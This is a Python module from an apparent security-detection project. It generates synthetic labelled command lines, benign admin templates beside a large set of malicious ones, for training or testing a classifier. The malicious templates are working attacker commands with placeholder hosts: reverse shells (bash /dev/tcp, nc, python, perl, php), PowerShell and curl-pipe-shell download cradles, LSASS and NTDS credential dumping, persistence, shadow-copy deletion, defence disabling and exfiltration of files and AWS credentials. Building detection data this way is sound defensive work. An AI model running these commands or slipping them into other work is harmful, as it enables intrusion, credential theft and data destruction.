"""Command lines: the benign and malicious families, their launchers and sensors, and the row maker.

Rows are grouped by the binary they run; a family names the tool set or the technique. A held-out binary tests
what carries over from the tradecraft around it (paths, hosts, launchers), not the tool's name.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from smallsec_ray.data.demo.fill import fill
from smallsec_ray.data.schema import GROUP, LABEL, SOURCE


@dataclass(frozen=True)
class Family:
    name: str
    templates: tuple[str, ...]
    platform: str = ""
    weight: float = 1.0


def _family(name: str, platform: str, *templates: str, weight: float = 1.0) -> Family:
    return Family(name, templates, platform, weight)


BENIGN_CMDLINES = (
    _family("git", "linux", "git clone git@github.com:{org}/{repo}.git", "git checkout -b {branch}",
            "git pull --rebase origin {branch}", 'git commit -am "{commit_msg}"', "git push origin {branch}",
            "git log --oneline -n {n}", "git fetch --all --prune", "git diff --stat {branch}"),
    _family("ls", "linux", "ls -la {lin_dir}", "ls -lh /var/log/{svc}", "ls -1 *.{ext} | wc -l"),
    _family("grep", "linux", 'grep -rn "{fname}" src/', "grep -i error /var/log/{svc}/{svc}.log | tail -n {n}",
            "grep -v '^#' /etc/{svc}/{svc}.conf"),
    _family("find", "linux", "find {lin_dir} -name '*.{ext}' -mtime +{n} -delete",
            "find . -type f -size +{n}M", r"find /var/log -name '*.gz' -mtime +30 -exec rm {} \;"),
    _family("docker", "linux", "docker ps -a", "docker build -t {image} .", "docker run --rm -it {image} sh",
            "docker compose up -d {deploy}", "docker logs -f --tail {n} {repo}-{deploy}-1",
            "docker exec -it {repo}-db-1 psql -U postgres", "docker pull {image}", "docker system prune -af"),
    _family("kubectl", "linux", "kubectl get pods -n {ns}", "kubectl logs -f deploy/{deploy} -n {ns}",
            "kubectl rollout restart deployment/{deploy} -n {ns}", "kubectl apply -f k8s/{deploy}.yaml",
            "kubectl port-forward svc/{deploy} {svc_port}:{svc_port} -n {ns}",
            "kubectl get secret {deploy}-db -n {ns} -o jsonpath='{.data.password}' | base64 -d"),
    _family("systemctl", "linux", "sudo systemctl restart {svc}", "systemctl status {svc}",
            "sudo systemctl enable --now {svc}", "systemctl list-units --failed",
            "journalctl -u {svc} --since '{n} hours ago'", "sudo journalctl --vacuum-time=7d"),
    _family("ssh", "linux", "ssh {user}@{host}.{corp_domain}", "ssh -i ~/.ssh/id_ed25519 {user}@{ip_internal}",
            "ssh -L {svc_port}:localhost:{svc_port} {user}@jump-01.{corp_domain}",
            "scp {lin_file} {user}@{host}:/tmp/"),
    _family("rsync", "linux", "rsync -avz --delete {lin_dir}/ {user}@{host}:/srv/backup/{repo}/",
            "rsync -a --progress /data/{repo} /mnt/backup/"),
    _family("tar", "linux", "tar -czf {repo}-{year}{mm}{dd}.tar.gz {lin_dir}", "tar -xzf {tool}-{ver}.tar.gz -C /opt/",
            "tar -tvf backup-{year}{mm}{dd}.tar"),
    _family("python", "linux", "python3 -m venv .venv", "python3 manage.py migrate", "python3 -m pytest tests/ -q",
            "python3 scripts/{script}.py --env {env}", "python3 -m http.server 8000",
            "python3 -c 'import sys; print(sys.version)'", "pip install -r requirements.txt",
            "pip install --upgrade {pip_pkg}", "pip3 install {pip_pkg}=={ver}"),
    _family("npm", "linux", "npm ci", "npm install --save-dev {npm_pkg}", "npm run build", "npx eslint --fix src/",
            "make -j{n}", "make test", "make clean && make"),
    _family("curl", "linux", "curl -s https://api.github.com/repos/{org}/{repo}/releases/latest",
            "curl -I https://{corp_site}", "curl -fsSL https://get.docker.com -o get-docker.sh",
            "curl -X POST -H 'Content-Type: application/json' -d @payload.json http://{host}:{svc_port}/api/v1/jobs",
            "curl -fsSL https://sh.rustup.rs | sh", "curl -sSL https://install.python-poetry.org | python3 -",
            "curl -Lo /tmp/{tool}.tar.gz https://github.com/{org}/{tool}/releases/download/v{ver}/{tool}-linux-amd64.tar.gz"),
    _family("wget", "linux", "wget https://releases.{vendor}.com/{tool}/{ver}/{tool}_linux_amd64.zip",
            "wget -qO- https://packages.{vendor}.com/gpg.key | sudo gpg --dearmor -o /usr/share/keyrings/{vendor}.gpg",
            "wget -c https://{corp_site}/files/{fname}.tar.gz"),
    _family("ps", "linux", "ps aux | grep {svc}", "ps -ef --forest", "df -h", "du -sh /var/lib/docker/*", "free -m",
            "top -b -n 1 | head -n 20", "tail -f /var/log/{svc}/access.log", "tail -n {n} /var/log/syslog"),
    _family("chmod", "linux", "chmod +x scripts/{script}.sh", "sudo chown -R {user}:{user} /srv/{repo}",
            "chmod 600 ~/.ssh/id_ed25519", "chmod -R 755 /var/www/{site}"),
    _family("sed", "linux", "sed -i 's/{sed_pair}/g' config/{env}.yaml", "awk -F, '{print $1}' {fname}.csv",
            "sed -n '{n},{n}p' {lin_file}"),
    _family("openssl", "linux", "openssl x509 -in {cert}.pem -noout -dates",
            "openssl s_client -connect {corp_site}:443 -servername {corp_site}",
            "openssl req -new -newkey rsa:2048 -nodes -keyout {site}.key -out {site}.csr"),
    _family("base64", "linux", "echo '{b64_config}' | base64 -d | jq .", "base64 -w0 {cert}.pem > {cert}.b64",
            "echo -n \"{user}:$API_TOKEN\" | base64"),
    _family("crontab", "linux", "crontab -l", "crontab -e", "sudo crontab -u {user} -l"),
    _family("apt", "linux", "sudo apt-get update && sudo apt-get install -y {apt_pkg}", "sudo apt upgrade -y",
            "apt list --installed | grep {apt_pkg}"),
    _family("terraform", "linux", "terraform plan -out tfplan", "terraform apply tfplan", "terraform init -upgrade",
            "terraform workspace select {env}", "ansible-playbook -i inventories/{env} site.yml --limit {host}"),
    _family("nc", "linux", "nc -zv {host} {svc_port}", "nc -vz {ip_internal} 5432", "nc -l 8000 > {fname}.tar"),
    _family("brew", "macos", "brew install {brew_pkg}", "brew upgrade", "brew services restart {svc}",
            "defaults write com.apple.finder AppleShowAllFiles -bool true", "launchctl list | grep {vendor}"),
    _family("get-childitem", "windows", r"Get-ChildItem -Path {win_dir} -Recurse -Filter *.{win_ext}",
            r"Get-ChildItem C:\Logs | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-{n}) } | Remove-Item",
            r"gci -r {win_dir} | Measure-Object -Property Length -Sum"),
    _family("get-service", "windows", "Get-Service -Name {winsvc} | Restart-Service",
            "Get-Process | Sort-Object CPU -Descending | Select-Object -First {n}",
            "Get-EventLog -LogName System -Newest {n}", "Get-WinEvent -LogName Application -MaxEvents {n}"),
    _family("robocopy", "windows",
            r"robocopy {win_dir} \\{fileserver}\{share}\{dept} /MIR /R:2 /W:5 /LOG:C:\Logs\robocopy-{year}{mm}{dd}.log",
            r"robocopy C:\Data D:\Backup /E /Z /XO", r"xcopy /E /I /Y {win_dir} \\{fileserver}\{share}"),
    _family("ipconfig", "windows", "ipconfig /all", "ipconfig /flushdns", "netstat -ano | findstr :{svc_port}",
            "nslookup {host}.{corp_domain}", "ping -n 4 {ip_internal}",
            "Test-NetConnection {host}.{corp_domain} -Port {svc_port}"),
    _family("certutil", "windows", "certutil -hashfile {win_file} SHA256", "certutil -verify -urlfetch {cert}.cer",
            "certutil -store My", "certutil -addstore Root {cert}.cer", "certutil -dump {cert}.pfx"),
    _family("powershell", "windows", r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\{script}.ps1",
            'powershell -Command "Get-Service {winsvc}"', "pwsh -File ./build.ps1 -Configuration Release",
            r"powershell.exe -NonInteractive -File \\{fileserver}\netlogon\{script}.ps1"),
    _family("management-agent", "windows",
            "powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {b64_ps_admin}",
            "powershell.exe -NoProfile -EncodedCommand {b64_ps_admin}"),
    _family("invoke-webrequest", "windows",
            r"Invoke-WebRequest -Uri https://downloads.{vendor}.com/{app}-{ver}-x64.msi -OutFile $env:TEMP\{app}.msi",
            "Invoke-RestMethod -Uri https://{corp_site}/api/health",
            "iwr https://{corp_site}/files/{fname}.zip -OutFile {fname}.zip"),
    _family("schtasks", "windows", "schtasks /query /fo LIST /v", 'schtasks /run /tn "{benign_task}"',
            r'schtasks /create /tn "{benign_task}" /tr "C:\Scripts\{script}.cmd" /sc daily /st 02:00 '
            r"/ru {corp_short}\svc_backup"),
    _family("reg", "windows", r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s /f {app}",
            r"reg export HKCU\Software\{vendor} C:\Backup\{vendor}.reg",
            r"reg add HKLM\SOFTWARE\Policies\{vendor}\{app} /v AutoUpdate /t REG_DWORD /d 0 /f"),
    _family("msiexec", "windows", r"msiexec /i \\{fileserver}\deploy\{app}-{ver}.msi /qn /norestart",
            "msiexec /x {guid_braced} /qn", "winget install --id {winget_id} -e --silent", "choco upgrade all -y"),
    _family("sc", "windows", "sc query {winsvc}", "sc config {winsvc} start= auto", "sc stop {winsvc}",
            "tasklist /svc", 'tasklist /fi "imagename eq {app_exe}"', "taskkill /IM {app_exe} /F"),
    _family("wmic", "windows", "wmic logicaldisk get size,freespace,caption", "wmic product get name,version",
            "wmic os get lastbootuptime", "bitsadmin /list /allusers /verbose"),
    _family("net", "windows", r"net use Z: \\{fileserver}\{share} /persistent:yes", "net start {winsvc}",
            "net user {user} /domain", "gpupdate /force", "gpresult /r", "whoami", "hostname"),
    _family("rundll32", "windows", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
            r"rundll32 printui.dll,PrintUIEntry /in /n \\print-01\{printer}", "rundll32.exe user32.dll,LockWorkStation",
            r'regsvr32 /s "C:\Program Files\{app}\{app}Shell.dll"'),
)

MALICIOUS_CMDLINES = (
    _family("encoded-powershell", "windows", "powershell.exe -nop -w hidden -enc {b64_ps}",
            "powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {b64_ps}",
            "cmd.exe /c powershell -e {b64_ps}",
            "powershell.exe -ExecutionPolicy bypass -windowstyle hidden -e {b64_ps}"),
    _family("powershell-cradle", "windows",
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('{payload_url_ps1}')\"",
            "powershell.exe -nop -c \"iex(iwr '{payload_url_ps1}' -UseBasicParsing)\"",
            "powershell -w hidden -c \"(New-Object System.Net.WebClient).DownloadFile('{payload_url_exe}',"
            "'{win_drop_exe}');Start-Process '{win_drop_exe}'\"",
            "Invoke-WebRequest -Uri {payload_url_exe} -OutFile {win_drop_exe}; Start-Process {win_drop_exe}"),
    _family("certutil-download", "windows", "certutil.exe -urlcache -split -f {payload_url_exe} {win_drop_exe}",
            "certutil -urlcache -f {payload_url_exe} {win_drop_exe} && {win_drop_exe}",
            r"certutil -decode {win_drop_dir}\{rand}.txt {win_drop_exe}"),
    _family("bitsadmin-download", "windows",
            "bitsadmin /transfer {rand} /download /priority high {payload_url_exe} {win_drop_exe}",
            "bitsadmin /create {job} & bitsadmin /addfile {job} {payload_url_exe} {win_drop_exe} & "
            "bitsadmin /resume {job}"),
    _family("rundll32-proxy", "windows", "rundll32.exe {win_drop_dll},{dll_export}",
            'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
            'GetObject("script:{payload_url_sct}")', "rundll32 {win_drop_dll},DllRegisterServer"),
    _family("regsvr32-scriptlet", "windows", "regsvr32 /s /n /u /i:{payload_url_sct} scrobj.dll",
            "regsvr32.exe /s {win_drop_dll}"),
    _family("mshta", "windows", "mshta {payload_url_hta}",
            'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -enc '
            '{b64_ps}"":close")', 'mshta.exe javascript:a=GetObject("script:{payload_url_sct}").Exec();close();'),
    _family("lsass-dump", "windows", r"procdump.exe -accepteula -ma lsass.exe {win_drop_dir}\lsass.dmp",
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {pid} {win_drop_dir}\{rand}.dmp full",
            'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    _family("hive-dump", "windows", r"reg save HKLM\SAM {win_drop_dir}\sam.save",
            r"reg save HKLM\SYSTEM {win_drop_dir}\system.save",
            r'ntdsutil "ac i ntds" "ifm" "create full {win_drop_dir}\ntds" q q',
            r"vssadmin create shadow /for=C: & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{n}\Windows"
            r"\NTDS\ntds.dit {win_drop_dir}\ntds.dit"),
    _family("schtasks-persistence", "windows",
            'schtasks /create /sc onlogon /tn "{mal_task}" /tr "{win_drop_exe}" /ru SYSTEM /f',
            'schtasks /create /tn "{mal_task}" /tr "powershell -w hidden -enc {b64_ps}" /sc minute /mo {n} /f'),
    _family("run-key-persistence", "windows",
            r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v "{mal_task}" /t REG_SZ '
            r'/d "{win_drop_exe}" /f',
            r'reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /v {rand} /d "rundll32 {win_drop_dll},'
            r'{dll_export}" /f',
            r"New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name {rand} "
            "-Value '{win_drop_exe}'"),
    _family("service-persistence", "windows", 'sc create {rand} binPath= "{win_drop_exe}" start= auto',
            "New-Service -Name {rand} -BinaryPathName '{win_drop_exe}' -StartupType Automatic"),
    _family("inhibit-recovery", "windows", "vssadmin delete shadows /all /quiet", "wmic shadowcopy delete",
            "bcdedit /set {bcd_entry} recoveryenabled No", "wbadmin delete catalog -quiet",
            "vssadmin.exe Delete Shadows /All /Quiet & bcdedit /set {bcd_entry} bootstatuspolicy ignoreallfailures",
            "vssadmin delete shadows /all /quiet & start {win_drop_exe}"),
    _family("defense-evasion", "windows", "Set-MpPreference -DisableRealtimeMonitoring $true",
            "powershell -c \"Add-MpPreference -ExclusionPath '{win_drop_dir}'\"",
            "netsh advfirewall set allprofiles state off", "wevtutil cl Security", "sc stop WinDefend",
            "Set-MpPreference -DisableRealtimeMonitoring $true; Start-Process {win_drop_exe}"),
    # Discovery is only malicious in context: the same commands run in benign admin sessions.
    _family("discovery", "windows", "whoami /all", 'net group "Domain Admins" /domain',
            "nltest /domain_trusts /all_trusts", "net localgroup administrators", "quser",
            'cmd.exe /c "whoami & hostname & ipconfig /all & net user"', r"whoami /all > {win_drop_dir}\{rand}.txt",
            weight=0.3),
    _family("lateral-movement", "windows", r"psexec.exe \\{host} -u {corp_short}\{user} -p {password} -s cmd.exe",
            'wmic /node:{ip_internal} process call create "cmd.exe /c {win_drop_exe}"',
            "Invoke-Command -ComputerName {host} -ScriptBlock { IEX (New-Object Net.WebClient).DownloadString("
            "'{payload_url_ps1}') }", 'winrs -r:{host} "{win_drop_exe}"'),
    _family("account-creation", "windows", "net user {mal_user} {password} /add",
            "net localgroup administrators {mal_user} /add", "net user {mal_user} {password} /add /domain",
            "net user {mal_user} {password} /add & net localgroup administrators {mal_user} /add"),
    _family("reverse-shell-powershell", "windows",
            "powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('{ip_public}',{port});"
            "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0}\""),
    _family("reverse-shell-bash", "linux", "bash -i >& /dev/tcp/{ip_public}/{port} 0>&1",
            "bash -c 'bash -i >& /dev/tcp/{ip_public}/{port} 0>&1'", "sh -i >& /dev/udp/{ip_public}/{port} 0>&1",
            "sh -c 'exec 196<>/dev/tcp/{ip_public}/{port}; sh <&196 >&196 2>&196'"),
    _family("reverse-shell-nc", "linux", "nc -e /bin/sh {ip_public} {port}",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip_public} {port} >/tmp/f",
            "ncat {ip_public} {port} -e /bin/bash",
            "socat tcp-connect:{ip_public}:{port} exec:/bin/sh,pty,stderr,setsid"),
    _family("reverse-shell-script", "linux",
            "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
            's.connect(("{ip_public}",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
            'import pty;pty.spawn("/bin/sh")\'',
            "perl -e 'use Socket;$i=\"{ip_public}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
            "connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\");'",
            "php -r '$sock=fsockopen(\"{ip_public}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    _family("curl-pipe-shell", "linux", "curl -fsSL {payload_url_sh} | sh", "wget -qO- {payload_url_sh} | bash",
            "curl -s {payload_url_sh} | bash -s", "(curl -fsSL {payload_url_sh}||wget -q -O- {payload_url_sh})|sh",
            "wget -P /tmp {payload_url_bin}; chmod +x /tmp/{bin_name}; /tmp/{bin_name}"),
    _family("base64-shell", "linux", "echo {b64_sh} | base64 -d | bash", "echo '{b64_sh}' | base64 --decode | sh",
            'bash -c "$(echo {b64_sh} | base64 -d)"',
            "python3 -c \"import base64,os;os.system(base64.b64decode('{b64_sh}'))\"",
            "echo {b64_sh} | base64 -d > /tmp/.{tmp_name}; sh /tmp/.{tmp_name}"),
    _family("cron-persistence", "linux",
            '(crontab -l 2>/dev/null; echo "*/{n} * * * * curl -fsSL {payload_url_sh} | sh") | crontab -',
            "echo '@reboot /tmp/.{rand}' >> /var/spool/cron/crontabs/root",
            "echo \"* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/{ip_public}/{port} 0>&1'\" > /etc/cron.d/{rand}"),
    _family("ssh-key-persistence", "linux", "echo '{ssh_key}' >> /root/.ssh/authorized_keys",
            "mkdir -p ~/.ssh && echo '{ssh_key}' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys",
            "curl -fsSL {payload_url_sh} -o /tmp/.{tmp_name} && cat /tmp/.{tmp_name} >> /root/.ssh/authorized_keys"),
    _family("linux-credential-access", "linux", "cat /etc/shadow", "unshadow /etc/passwd /etc/shadow > /tmp/{rand}.txt",
            "grep -r 'password' /home/*/.bash_history", "find / -name id_rsa 2>/dev/null",
            "cat ~/.aws/credentials | curl -X POST -d @- http://{ip_public}:{web_port}/"),
    _family("cryptominer", "linux", "./xmrig -o {pool}:{pool_port} -u {wallet} -p x -k --donate-level 1",
            "nohup /tmp/.{tmp_name}/kworker -c /tmp/.{tmp_name}/config.json >/dev/null 2>&1 &",
            "chmod +x /tmp/.{tmp_name} && /tmp/.{tmp_name} -o stratum+tcp://{pool}:{pool_port} -u {wallet}"),
    _family("log-tampering", "linux", "history -c && rm -f ~/.bash_history", "unset HISTFILE; export HISTSIZE=0",
            "echo > /var/log/auth.log", "setenforce 0; systemctl stop firewalld",
            "unset HISTFILE; curl -fsSL {payload_url_sh} | sh", "shred -u /var/log/auth.log /tmp/.{rand}"),
    _family("exfiltration", "linux", "tar czf - /home/{user} | nc {ip_public} {port}",
            "curl -F 'file=@/etc/passwd' http://{ip_public}:{web_port}/upload",
            "rclone copy /srv/{repo} mega:{rand} --transfers 16", "scp -r /var/www {mal_user}@{ip_public}:/tmp/"),
    _family("macos-persistence", "macos", "osascript -e 'do shell script \"curl -s {payload_url_sh} | sh\"'",
            "launchctl load -w ~/Library/LaunchAgents/com.{rand}.agent.plist",
            "curl -so /tmp/.{tmp_name} {payload_url_bin} && xattr -d com.apple.quarantine /tmp/.{tmp_name}"),
)

SENSORS = {"windows": ("sysmon", "edr"), "linux": ("auditd", "edr"), "macos": ("edr",)}

# How a command was launched: (prefix, suffix) around it. Attackers and admins share some launchers.
LAUNCHERS = {
    ("benign", "windows"): (("cmd.exe /c ", ""), ("cmd /c ", r" > C:\Logs\{script}.log"),
                            ("", r" >> \\{fileserver}\{share}\logs\{host}.txt"),
                            (r'runas /user:{corp_short}\{user} "', '"'), ("", " && echo done")),
    ("malicious", "windows"): (("cmd.exe /c ", ""), ("cmd /q /c ", r" > {win_drop_dir}\{rand}.log 2>&1"),
                               (r'C:\Windows\System32\cmd.exe /c "', '"'), ("", r" & del /f /q {win_drop_exe}"),
                               ("", r" & start /b {win_drop_exe}"), ("", " && ping -n 3 127.0.0.1 > nul"),
                               ("", " & powershell -w hidden -enc {b64_ps}"),
                               ("", r" & timeout /t 3 & start {win_drop_exe}")),
    ("benign", "linux"): (("sudo ", ""), ("", " | tee {fname}.log"), ("time ", ""), ('bash -c "', '"'),
                          ("", " > /tmp/{fname}.out 2>&1"), ("cd {lin_dir} && ", ""), ("", " && echo done")),
    ("malicious", "linux"): (("nohup sh -c '", "' >/dev/null 2>&1 &"), ("sudo ", ""), ("", "; rm -f /tmp/.{rand}"),
                             ("cd /tmp && ", ""), ("", " 2>/dev/null &"), ('sh -c "', '"'),
                             ("", " && chmod +x /tmp/.{tmp_name} && /tmp/.{tmp_name}"),
                             ("", "; curl -fsSL {payload_url_sh} | sh"),
                             ("cd /dev/shm; ", "")),
}
LAUNCHED_SHARE = {"benign": 0.3, "malicious": 0.6}


def row(rng: random.Random, label: str) -> dict[str, str]:
    """A random command line of the given label, as a row with its binary as group."""
    family = _weighted(rng, BENIGN_CMDLINES if label == "benign" else MALICIOUS_CMDLINES)
    memo: dict[str, str] = {}
    text = fill(rng.choice(family.templates), rng, memo)
    group = _binary(text)
    if rng.random() < LAUNCHED_SHARE[label]:
        prefix, suffix = rng.choice(LAUNCHERS[label, "windows" if family.platform == "windows" else "linux"])
        text = fill(prefix, rng, memo) + text + fill(suffix, rng, memo)
    return {"text": text, LABEL: label, GROUP: group, SOURCE: rng.choice(SENSORS[family.platform]),
            "platform": family.platform, "family": family.name}


BINARY_ALIASES = {"gci": "get-childitem", "pip3": "pip", "apt-get": "apt", "iwr": "invoke-webrequest",
                  "pwsh": "powershell", "npx": "npm", "python": "python3"}


def _binary(command: str) -> str:
    """The program a command line runs: its first word without sudo, folders and .exe, aliases resolved."""
    words = command.lstrip("(").split()
    name = words[1] if words[0] == "sudo" and len(words) > 1 else words[0]
    name = name.replace("\\", "/").rsplit("/", 1)[-1].lower().removesuffix(".exe")
    return BINARY_ALIASES.get(name, name)


def _weighted(rng: random.Random, families: tuple[Family, ...]) -> Family:
    return rng.choices(families, weights=[f.weight for f in families])[0]

